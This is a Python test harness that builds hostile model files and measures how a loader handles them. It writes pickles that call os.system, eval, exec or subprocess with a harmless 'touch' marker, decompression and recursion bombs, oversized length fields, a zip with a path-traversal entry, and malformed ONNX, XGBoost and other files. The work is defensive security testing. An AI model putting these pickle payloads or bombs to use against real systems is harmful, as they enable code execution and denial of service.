"""Makes model files that mean harm, and runs a program over a folder of them while measuring it.

    hostile.py make FOLDER MARKER             files; those that would run something would make the file MARKER
    hostile.py measure PROGRAM [ARGUMENT...]  for each FILE on standard input: PROGRAM with {} replaced by it;
                                              prints one JSON line: file, exit code, CPU seconds, peak memory in KiB

Only the standard library is used, and no file is ever loaded here.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pathlib
import struct
import subprocess
import sys
import zipfile
import zlib

STOP = b"."


def short(text):
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def unicode(text):
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def reduce2(module, name, *arguments):
    """Protocol 2: a call of a named function."""
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(map(unicode, arguments)) + b"tR."


def reduce4(module, name, *arguments):
    """Protocol 4: the same by STACK_GLOBAL."""
    return b"\x80\x04" + short(module) + short(name) + b"\x93(" + b"".join(map(unicode, arguments)) + b"tR."


def calls(marker):
    touch = f"touch {marker}"
    code = f"open({marker!r}, 'w').write('x')"
    for module, name, arguments in [
        ("os", "system", [touch]),
        ("posix", "system", [touch]),
        ("nt", "system", [touch]),
        ("os", "popen", [touch]),
        ("subprocess", "getoutput", [touch]),
        ("subprocess", "check_output", [touch]),
        ("builtins", "eval", [code]),
        ("builtins", "exec", [code]),
        ("builtins", "__import__", ["antigravity"]),
        ("builtins", "getattr", ["os", "system"]),
        ("builtins", "open", [marker, "w"]),
        ("pty", "spawn", [touch]),
        ("runpy", "run_path", [marker]),
        ("shutil", "rmtree", [marker]),
        ("webbrowser", "open", ["http://127.0.0.1:9/"]),
        ("importlib", "import_module", ["antigravity"]),
        ("timeit", "timeit", [code]),
        ("code", "interact", []),
        ("pickle", "loads", ["cos\nsystem\n."]),
        ("numpy", "load", [marker]),
        ("joblib", "load", [marker]),
        ("numpy.testing._private.utils", "runstring", [code]),
        ("sklearn.utils", "os.system", [touch]),
        ("operator", "methodcaller", ["system"]),
    ]:
        yield f"call2_{module}.{name}.pkl", reduce2(module, name, *arguments)
        yield f"call4_{module}.{name}.pkl", reduce4(module, name, *arguments)
    yield "call0_inst.pkl", b"(V" + touch.encode() + b"\nios\nsystem\n."
    yield "call0_python2.pkl", b"c__builtin__\neval\n(V" + code.encode() + b"\ntR."
    yield "call_obj.pkl", b"\x80\x02(cos\nsystem\n" + unicode(touch) + b"o."
    yield "call_newobj.pkl", b"\x80\x02csubprocess\nPopen\n" + unicode(touch) + b"\x85\x81."
    yield "call_behind_the_end.pkl", b"\x80\x04N." + reduce2("os", "system", touch)
    yield "call_zlib.joblib", zlib.compress(reduce2("os", "system", touch))
    yield "call_gzip.joblib", gzip.compress(reduce4("os", "system", touch))
    step = b"\x80\x02csklearn.pipeline\nPipeline\n)\x81}(" + unicode("steps") + b"]" + reduce2("os", "system", touch)[2:-1]
    yield "call_in_pipeline.pkl", step + b"aub."
    state = b"\x80\x02csklearn.tree._classes\nDecisionTreeClassifier\n)\x81"
    yield "call_in_state.pkl", state + reduce2("os", "system", touch)[2:-1] + b"b."


def bombs():
    lists = b"".join(b"]q" + bytes([at]) + b"(" + (b"h" + bytes([at - 1])) * 10 + b"e" for at in range(1, 100))
    yield "memo_lists.pkl", b"\x80\x02]q\x00" + lists + STOP
    tuples = b"".join(b"h" + bytes([at - 1]) * 2 + b"h" + bytes([at - 1]) + b"\x86q" + bytes([at]) for at in range(1, 90))
    yield "memo_tuples.pkl", b"\x80\x02)q\x00" + tuples + STOP
    yield "self_reference.pkl", b"\x80\x02]q\x00h\x00a."
    yield "self_dictionary.pkl", b"\x80\x02}q\x00(h\x00h\x00u."
    yield "deep_marks.pkl", b"\x80\x02" + b"(" * 3_000_000 + STOP
    yield "deep_lists.pkl", b"\x80\x02" + b"](" * 1_000_000 + b"e" * 1_000_000 + STOP
    yield "deep_tuples.pkl", b"\x80\x02N" + b"\x85" * 2_000_000 + STOP
    yield "many_objects.pkl", b"\x80\x02](" + b"}" * 4_000_000 + b"e."
    yield "many_pops.pkl", b"\x80\x02" + b"N0" * 2_000_000 + b"N."
    yield "many_copies.pkl", b"\x80\x02](N" + b"2" * 5_000_000 + b"e."
    yield "long_number.pkl", b"L" + b"9" * 900_000 + b"L\n."
    yield "long_line.pkl", b"V" + b"a" * 3_000_000 + b"\n."
    yield "endless_line.pkl", b"V" + b"a" * 3_000_000
    voting = b"".join(
        b"csklearn.pipeline\nFeatureUnion\n)\x81q" + bytes([at]) + b"}(" + unicode("_sklearn_version") + unicode("1.7.2")
        + unicode("transformer_list") + b"](" + (b"(" + unicode("s") + (b"h" + bytes([at - 1]) if at else b"N") + b"t") * 10 + b"eub0"
        for at in range(40)
    )
    yield "union_bomb.pkl", b"\x80\x02" + voting + b"h\x27."


def lengths():
    huge = struct.pack("<Q", 2**63 - 1)
    for name, opcode in [("bytes8", b"\x8e"), ("unicode8", b"\x8d"), ("bytearray8", b"\x96"), ("frame", b"\x95")]:
        yield f"huge_{name}.pkl", b"\x80\x05" + opcode + huge + b"abc."
    for name, opcode in [("bytes4", b"B"), ("unicode4", b"X"), ("string4", b"T"), ("long4", b"\x8b")]:
        yield f"huge_{name}.pkl", b"\x80\x02" + opcode + b"\xff\xff\xff\x7fabc."
    yield "huge_memo.pkl", b"\x80\x02Nr\xff\xff\xff\xff."
    for name, shape, dtype in [
        ("large", b"J\xff\xff\xff\x7f\x85", "f8"),
        ("product", b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x87", "f8"),
        ("negative", b"J\xff\xff\xff\xff\x85", "f8"),
        ("wide", b"K\x01\x85", "V2147483647"),
        ("empty_wide", b"K\x00J\xff\xff\xff\x7f\x86", "f8"),
        ("objects", b"J\xff\xff\xff\x7f\x85", "O"),
    ]:
        wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + unicode("subclass") + b"cnumpy\nndarray\n"
        wrapper += unicode("shape") + shape + unicode("order") + unicode("C") + unicode("allow_mmap") + b"\x88"
        wrapper += unicode("dtype") + b"cnumpy\ndtype\n(" + unicode(dtype) + b"K\x00K\x01tRub."
        yield f"array_{name}.joblib", wrapper


def packed():
    zeros = bytes(200 << 20)
    yield "bomb.zlib", zlib.compress(zeros, 9)
    yield "bomb.gz", gzip.compress(zeros, 9)
    yield "bomb.gz.gz", gzip.compress(gzip.compress(zeros, 9), 9)
    yield "bomb.bz2", bz2.compress(zeros[: 64 << 20])
    yield "bomb.xz", lzma.compress(zeros[: 64 << 20], preset=0)
    yield "bomb.lzma", lzma.compress(zeros[: 64 << 20], format=lzma.FORMAT_ALONE, preset=0)
    yield "window.lzma", bytes([0x5D, 0, 0, 0xFF, 0xFF]) + bytes(14)
    yield "cut.zlib", zlib.compress(os.urandom(1000))[:500]
    yield "checksum.gz", gzip.compress(b"\x80\x04N.")[:-8] + bytes(8)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("model/data.pkl", zeros[: 64 << 20])
        zipped.writestr("../../evil.py", "import os")
    yield "bomb.zip", archive.getvalue()
    yield "half.zip", archive.getvalue()[: len(archive.getvalue()) // 2]


def wrong():
    yield "empty.pkl", b""
    yield "text.pkl", b"hello, I am a model"
    yield "random.pkl", bytes((at * 7919 + 13) % 251 for at in range(10_000))
    yield "zeros.joblib", bytes(100_000)
    yield "protocol9.pkl", b"\x80\x09N."
    yield "extension.pkl", b"\x80\x02\x82\x01."
    yield "persistent.pkl", b"Pid\n."
    yield "out_of_band.pkl", b"\x80\x05\x97."
    yield "nothing_on_the_stack.pkl", b"\x80\x02."
    yield "number.pkl", b"\x80\x02K\x01."
    yield "elf.pkl", b"\x7fELF" + bytes(100)
    yield "hdf5.h5", b"\x89HDF\r\n\x1a\n" + bytes(1000)
    yield "keras.keras", b"PK\x03\x04" + bytes(26) + b"config.json"
    yield "onnx.onnx", b"\x08\x07\x12\x04evil" + b"\x3a\xff\xff\xff\xff\x0f"
    yield "catboost.cbm", b"CBM1" + b"\xff" * 100
    yield "lightgbm.txt", b"tree\nversion=v4\n" + b"num_leaves=999999999\n" * 10
    yield "xgboost.ubj", b"{L\0\0\0\0\0\0\0\x07learner" + b"[" * 100_000
    yield "json.json", b'{"learner":' + b"[" * 1_000_000


def make(folder, marker):
    for files in [calls(marker), bombs(), lengths(), packed(), wrong()]:
        for name, content in files:
            (folder / name).write_bytes(content)


def measure(command):
    for line in sys.stdin:
        file = line.rstrip("\n")
        process = subprocess.Popen(
            [part.replace("{}", file) for part in command], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
        )
        said = process.stderr.read()[-600:].decode(errors="replace")
        _, status, used = os.wait4(process.pid, 0)
        code = os.waitstatus_to_exitcode(status)
        seconds = used.ru_utime + used.ru_stime
        print(json.dumps({"file": file, "code": code, "cpu_s": seconds, "peak_kib": used.ru_maxrss, "said": said}))


if __name__ == "__main__":
    if sys.argv[1] == "make":
        make(pathlib.Path(sys.argv[2]), sys.argv[3])
    else:
        measure(sys.argv[2:])
